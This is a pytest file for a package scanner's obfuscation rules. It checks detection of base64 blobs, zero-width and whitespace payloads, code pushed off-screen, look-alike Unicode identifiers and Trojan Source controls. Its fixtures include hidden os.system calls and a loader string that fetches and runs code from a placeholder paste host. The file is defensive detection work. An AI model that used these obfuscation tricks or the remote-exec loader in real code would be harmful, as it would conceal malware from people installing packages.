"""Obfuscation: encoded blobs, whitespace payloads, chr joins, hidden code, look-alike names."""

from __future__ import annotations

import ast
import base64
import io
import os
import tokenize

from hypothesis import example, given, settings
from hypothesis import strategies as st
from rulekit import ids, package, py, run, severities

from pipvet.analysis.context import FileContext, FileKind
from pipvet.analysis.rules.obfuscation import (
    RULES,
    _non_ascii_only_in_literals,
    blob_kind,
    entropy,
)
from pipvet.models import Severity, Stage


def _ids(source: str, path: str = "acme/__init__.py", stage: Stage = Stage.IMPORT) -> set[str]:
    return ids(run(RULES, py(source, path=path, stage=stage)))


def test_large_base64_blob_is_flagged_but_prose_and_protobuf_bytes_are_not() -> None:
    blob = base64.b64encode(os.urandom(30_000)).decode()
    assert blob_kind(blob) == "base64"
    findings = run(RULES, py(f"DATA = '{blob}'\n"))
    assert [f.severity for f in findings] == [Severity.MEDIUM]
    prose = "the quick brown fox jumps over the lazy dog " * 100
    assert blob_kind(prose) is None
    descriptor = b'\n\x0bfoo.proto\x12\x03foo"\x1d\n\x03Bar\x12\x0b\n\x03baz\x18\x01 \x01(\t' * 200
    assert blob_kind(descriptor) is None
    assert entropy("aaaa") == 0.0


def test_whitespace_payload_is_high() -> None:
    payload = " \t" * 300
    assert _ids(f"S = {payload!r}\n") == {"PV-OBF-002"}
    assert _ids(f"PAD = {' ' * 400!r}\n") == set()  # a run of one space character is padding


def test_zero_width_bits_behind_visible_text_are_high() -> None:
    bits = "".join(format(b, "08b") for b in b"import os; print('probe', os.getcwd())")
    hidden = "Welcome" + bits.replace("0", "\u200b").replace("1", "\u200c")
    assert _ids(f"BANNER = {hidden!r}\n") == {"PV-OBF-002"}
    # A family emoji joins its people with a few zero-width joiners: no run to speak of.
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467 " * 40
    assert _ids(f"EMOJI = {family!r}\n") == set()


def test_payloads_cut_into_joined_short_pieces_are_still_found() -> None:
    """A literal made of implicitly joined pieces, each on a short line, is as long as all of
    them together: the cheap pre-check must not skip it (and skips files whose pieces are short,
    even with comments between them)."""
    from pipvet.analysis.rules.obfuscation import BLOB_MIN, may_hold_literal

    blob = base64.b64encode(os.urandom(3_000)).decode()
    pieces = "\n".join(f"    {blob[i : i + 60]!r}" for i in range(0, len(blob), 60))
    assert "PV-OBF-001" in _ids(f"DATA = (\n{pieces}\n)\n")
    commented = "\n".join(f"    {blob[i : i + 60]!r}  # part {i}" for i in range(0, len(blob), 60))
    assert "PV-OBF-001" in _ids(f"DATA = (\n{commented}\n)\n")
    wrapped_message = py("MSG = (\n    'a long message '\n    'wrapped by a formatter'\n)\n")
    assert not may_hold_literal(wrapped_message, BLOB_MIN, wrapped=True)


def test_chr_join_of_a_code_list() -> None:
    codes = [ord(c) for c in "http://x.invalid/p"]
    assert _ids(f"u = ''.join(map(chr, {codes}))\n") == {"PV-OBF-003"}
    assert _ids("alphabet = ''.join(map(chr, range(97, 123)))\n") == set()


def test_code_hidden_past_the_screen_edge() -> None:
    source = "x = 1" + " " * 200 + "; __import__('os').system('id')\n" + "y = 2\n" * 5
    assert "PV-OBF-004" in _ids(source)
    assert _ids("x = 1  # " + "-" * 300 + "\n") == set()


def test_text_far_right_in_a_docstring_is_prose_but_in_an_assigned_string_is_not() -> None:
    """A docstring line with trailing text past the edge (torchao's layout examples) is never
    executed; the same text in a string bound to a name may reach exec and stays flagged."""
    pushed = "    for example:" + " " * 200 + "for a Tensor of shape (4, 6):\n"
    docstring = 'class Format:\n    """\n    Layout,\n' + pushed + '    """\n\n' + "y = 2\n" * 5
    assert _ids(docstring) == set()
    assigned = 'code = """\n' + pushed + '"""\n' + "y = 2\n" * 5
    assert "PV-OBF-004" in _ids(assigned)
    after = 'def f():\n    """Doc."""' + " " * 200 + ";__import__('os').system('id')\n" + "y = 2\n" * 5
    assert "PV-OBF-004" in _ids(after)


def test_columns_aligned_far_right_are_layout_but_hidden_statements_are_not() -> None:
    """Code laid out as a table (a value, then its condition in a column far to the right) has
    the same gap on nearby lines; a statement pushed out of sight is still hidden even when the
    trick is repeated on the neighbouring lines."""

    def row(key: str, tail: str) -> str:
        return f'    "{key}":' + " " * (12 - len(key)) + f"opts.get('{key}')" + " " * (150 - len(key)) + tail

    table = (
        "payload = {\n"
        + "\n".join(row(k, f"if opts.get('{k}') else None,") for k in ("name", "agent", "timeout"))
        + "\n}\n"
    )
    assert _ids(table) == set()
    repeated = (
        "\n".join("x = 1" + " " * 200 + "; __import__('os').system('id')" for _ in range(3))
        + "\n"
        + "y = 2\n" * 5
    )
    assert "PV-OBF-004" in _ids(repeated)
    disguised = "\n".join(row(k, f"if opts.get('{k}') else exec(blob)") for k in ("name", "agent")) + "\n"
    assert "PV-OBF-004" in _ids("payload = {\n" + disguised + "}\n")


def test_pyarmor_runtime_is_flagged() -> None:
    assert _ids("from pytransform import pyarmor_runtime\npyarmor_runtime()\n") == {"PV-OBF-005"}


def test_nfkc_folded_identifier_is_high_but_plain_unicode_names_are_fine() -> None:
    bold_exec = "\U0001d41e\U0001d431\U0001d41e\U0001d41c"  # mathematical bold 'exec'
    findings = run(RULES, py(f"{bold_exec}('print(1)')\n", path="demo-1.0/setup.py", stage=Stage.INSTALL))
    assert ids(findings) == {"PV-OBF-006"}
    assert findings[0].severity is Severity.HIGH
    assert _ids("größe = 3\n名前 = 'x'\n") == set()


def test_builtin_indirections() -> None:
    computed = "f = getattr(__builtins__, 'ch' + 'r')\nprint(f(65))\n"
    assert _ids(computed) == {"PV-OBF-007"}
    assert _ids("e = eval('exec')\n") == {"PV-OBF-007"}
    # typing_extensions-style lookup by a parameter inside a function is ordinary.
    assert _ids("import builtins\ndef f(arg):\n    return getattr(builtins, arg)\n") == set()


def test_eval_of_exec_in_a_python_version_branch_is_the_compat_idiom() -> None:
    compat = "import sys\nif sys.version_info[0] < 3:\n    PY3 = False\nelse:\n    exec_ = eval('exec')\n"
    [finding] = run(RULES, py(compat, path="acme/compat.py"))
    assert (finding.rule, finding.severity) == ("PV-OBF-007", Severity.MEDIUM)
    [finding] = run(RULES, py("exec_ = eval('exec')\n", path="acme/compat.py"))
    assert (finding.rule, finding.severity) == ("PV-OBF-007", Severity.HIGH)
    other = "import os\nif os.name == 'nt':\n    exec_ = eval('exec')\n"
    assert [f.severity for f in run(RULES, py(other, path="acme/compat.py"))] == [Severity.HIGH]
    # empy: the version read once into a name, and eval reached through an alias
    named = (
        "import sys\nmajor = sys.version_info[0]\nevalFunc = eval\n"
        "if major == 2:\n    pass\nelif major >= 3:\n    execFunc = evalFunc('exec')\n"
    )
    assert [f.severity for f in run(RULES, py(named, path="acme/compat.py"))] == [Severity.MEDIUM]
    unrelated = "import os\nmode = os.name\nif mode == 'nt':\n    exec_ = eval('exec')\n"
    assert [f.severity for f in run(RULES, py(unrelated, path="acme/compat.py"))] == [Severity.HIGH]


def test_escape_obfuscated_text() -> None:
    hidden = "".join(f"\\x{ord(c):02x}" for c in "import os; os.system('id')" * 10)
    assert _ids(f'x = "{hidden}"\n') == {"PV-OBF-009"}
    binary = "".join(f"\\x{b:02x}" for b in os.urandom(200) if b < 0x20 or b >= 0x7F)
    assert _ids(f'x = b"{binary}"\n') == set()


def test_one_escaped_constant_repeated_by_generated_code_counts_once() -> None:
    method = 'def Has{0}(buf, offset):\n    return check(buf, offset, b"\\x54\\x46\\x4C\\x33")\n'
    generated = "".join(method.format(i) for i in range(300))  # 1,200 escapes, one distinct run
    assert _ids(generated) == set()
    escaped = ["".join(f"\\x{ord(c):02x}" for c in f"name{i:04d}") for i in range(60)]
    distinct = "".join(f'n{i} = "{name}"\n' for i, name in enumerate(escaped))
    assert _ids(distinct) == {"PV-OBF-009"}  # 480 escapes, every one a different hidden name


def test_unparseable_files_get_text_checks() -> None:
    source = "import base64\nprint 'py2'\nexec base64.b64decode('cHJpbnQgMQ==')\n"
    findings = run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
    assert ids(findings) == {"PV-OBF-008"}
    assert findings[0].severity is Severity.CRITICAL
    assert "does not parse" in findings[0].message
    assert _ids("print 'hello'\n") == set()


def test_loader_code_kept_in_a_string() -> None:
    stage2 = "from urllib.request import urlopen;exec(urlopen('https://paste.invalid/raw').read())"
    source = (
        f"import tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'')\nCODE = {stage2!r}\n"
    )
    assert "PV-OBF-010" in _ids(source)
    doc = "EXAMPLE = 'Use exec(compile(source, path, \"exec\")) to run a file.'\n"
    assert "PV-OBF-010" not in _ids(doc)


def test_loader_code_with_escaped_line_breaks_in_the_string() -> None:
    # The source spells "\\nexec(" (no word boundary in the text), the literal holds a line break.
    source = 'exec("""\\nimport base64 as b\\nexec(b.b64decode(\'cHJpbnQoMSk=\'))\\n""")\n'
    assert "\\nexec(" in source
    assert "PV-OBF-010" in _ids(source)


def _lazy(source: str, parses: list[str]) -> FileContext:
    """A Python file whose parse is deferred, recording when a rule forces it."""

    def parser() -> tuple[ast.Module | None, str | None]:
        parses.append(source)
        try:
            return ast.parse(source), None
        except SyntaxError as exc:
            return None, str(exc)

    return FileContext(
        path="pkg/mod.py",
        data=source.encode(),
        kind=FileKind.PYTHON,
        stage=Stage.IMPORT,
        text=source,
        parser=parser,
    )


def test_text_checks_parse_only_files_whose_text_matches() -> None:
    (rule,) = [r for r in RULES if r.id == "PV-OBF-008"]
    parses: list[str] = []
    assert list(rule.check(_lazy("x = 1\nprint(x)\n", parses), package())) == []
    assert parses == []  # nothing risky in the text: no parse needed to know there is no finding
    assert list(rule.check(_lazy("import os\nos.system('id')\n", parses), package())) == []
    assert len(parses) == 1  # a risky call in a file that parses: the tree-level rules judge it
    found = list(rule.check(_lazy("print 'x'\nos.system('id')\n", parses), package()))
    assert [f.line for f in found] == [2]


def _non_ascii_names(text: str) -> list[str] | None:
    """Non-ASCII NAME tokens as the tokenizer sees them (``None`` when it gives up)."""
    try:
        tokens = list(tokenize.generate_tokens(io.StringIO(text).readline))
    except (tokenize.TokenError, SyntaxError, IndentationError):
        return None
    return [t.string for t in tokens if t.type == tokenize.NAME and not t.string.isascii()]


_PIECES = [
    "'",
    '"',
    "'" * 3,
    '"' * 3,
    "#",
    "\\",
    "\n",
    "\r",
    "a",
    "f",
    "rb",
    " ",
    "=",
    "(",
    ")",
    "µ",
    "é",
    "ﬁ",
]
_PYISH = st.lists(st.sampled_from(_PIECES), max_size=40).map("".join)


@settings(max_examples=3000, deadline=None)
@given(text=_PYISH)
@example(text="x = 'µ'\n")
@example(text="'''a\\\n'µ'''\n")
@example(text="'abc\\\r\ndef' µ 'x'\n")
@example(text="x = '''\nµ''' ; µ = 1\n")
@example(text='\n\r"""#é\n"""\'é"""µ(\')\\')  # tokenize skips a line starting with a bare CR
def test_non_ascii_only_in_literals_is_never_wrong(text: str) -> None:
    if _non_ascii_only_in_literals(text):
        assert _non_ascii_names(text) in (None, [])


def test_a_look_alike_name_is_still_found_next_to_strings_and_comments() -> None:
    source = "# µ in a comment\nx = 'ﬁ in a string'\nﬁle = 1\n"
    assert not _non_ascii_only_in_literals(source)
    assert "PV-OBF-006" in _ids(source)
    assert "PV-OBF-006" not in _ids("# µ in a comment\nx = 'ﬁ in a string'\n")


def test_unparseable_files_weigh_where_the_code_sits() -> None:
    py2 = (
        "import subprocess\n"
        "def version():\n"
        "    try:\n"
        "        return subprocess.check_output(['sw_vers'])\n"
        "    except OSError, e:\n"
        "        print e\n"
    )
    in_def = run(RULES, py(py2, path="acme/platform/osx.py", stage=Stage.RUNTIME))
    assert [(f.rule, f.severity, f.stage) for f in in_def] == [("PV-OBF-008", Severity.LOW, Stage.RUNTIME)]
    top = py2 + "subprocess.call(['open', '-a', 'x'])\n"
    on_import = [f for f in run(RULES, py(top, path="acme/__init__.py")) if f.line == 7]
    assert [(f.severity, f.stage) for f in on_import] == []  # one finding per pattern: the first
    module_level = "import subprocess\nprint 'x'\nsubprocess.call(['open', '-a', 'x'])\n"
    found = run(RULES, py(module_level, path="acme/__init__.py"))
    assert [(f.severity, f.stage) for f in found] == [(Severity.HIGH, Stage.IMPORT)]
    longs = "import os\nMAX = 1 << 32L\ndef ifconfig():\n    return os.popen('ifconfig')\n"  # uuid 1.30
    found = run(RULES, py(longs, path="acme/__init__.py"))
    assert [(f.severity, f.stage) for f in found] == [(Severity.LOW, Stage.RUNTIME)]
    broken = py2.replace("except OSError, e:", "except OSError e:")  # not Python 2: may be a trick
    found = run(RULES, py(broken, path="acme/__init__.py"))
    assert [(f.severity, f.stage) for f in found] == [(Severity.HIGH, Stage.IMPORT)]
    in_class = "import subprocess\nclass A:\n    print 'x'\n    subprocess.call(['open'])\n"
    found = run(RULES, py(in_class, path="acme/__init__.py"))
    assert [(f.severity, f.stage) for f in found] == [(Severity.HIGH, Stage.IMPORT)]


def test_bidirectional_controls_that_reorder_code_are_high() -> None:
    """Trojan Source: controls followed by code on their line show it otherwise than Python
    reads it; right-to-left text, or a constant holding a control, reorders nothing that runs."""
    commented = "is_admin = False\n#\u202e } \u2066if is_admin:\u2069 \u2066 begin admins only\nprint(1)\n"
    found = [f for f in run(RULES, py(commented)) if f.rule == "PV-OBF-011"]
    assert [(f.severity, f.line) for f in found] == [(Severity.HIGH, 2)]
    assert "\\u202e" in (found[0].evidence or "")
    stretched = (
        "if access != 'none\u202e\u2066': # admin only \u2069\u2066' and access != 'user':\n    pass\n"
    )
    assert severities(RULES, py(stretched), "PV-OBF-011") == [Severity.HIGH]
    rtl = "LABEL = '\u202b\u05e9\u05dc\u05d5\u05dd\u202c'\nNAME = '\u2067abc\u2069'\n"
    assert severities(RULES, py(rtl), "PV-OBF-011") == [Severity.LOW]
    tables = "RTL_OVERRIDE = '\u202e'\nCONTROLS = frozenset('\u202a\u202b\u202c\u202d\u202e')\n"
    assert severities(RULES, py(tables), "PV-OBF-011") == [Severity.LOW]
    assert severities(RULES, py("LABEL = '\u05e9\u05dc\u05d5\u05dd'\n"), "PV-OBF-011") == []
